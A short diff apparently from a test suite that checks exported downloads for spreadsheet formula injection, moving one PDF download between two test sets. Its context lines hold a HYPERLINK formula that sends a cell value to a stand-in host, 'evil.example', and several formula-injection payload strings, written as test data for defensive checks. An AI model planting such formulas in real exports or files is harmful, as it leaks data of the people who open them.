@@ -48,6 +48,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
 HOSTILE = (HYPERLINK, "+evil()", "-evil()", "@evil()", "\t=evil()", "\r=evil()", "=1+1 evil")
 # The PDFs among the downloads: no spreadsheet program opens them.
 PDF_DOWNLOADS = {
+    "volunteers:interpreting_statements_pdf",
     "arrivals:received_print",
     "arrivals:sheet_print",
     "cases:plan_pdf",
@@ -61,7 +62,6 @@ PDF_DOWNLOADS = {
 # (The interpreters' monthly statements of the URL matrix's world cover a month without appointments held.)
 WITHOUT_STORED_TEXT = {
     "volunteers:interpreting_statements_xlsx",
-    "volunteers:interpreting_statements_pdf",
     "imports:template",
     "imports:example",
     "volunteers:figures_xlsx",
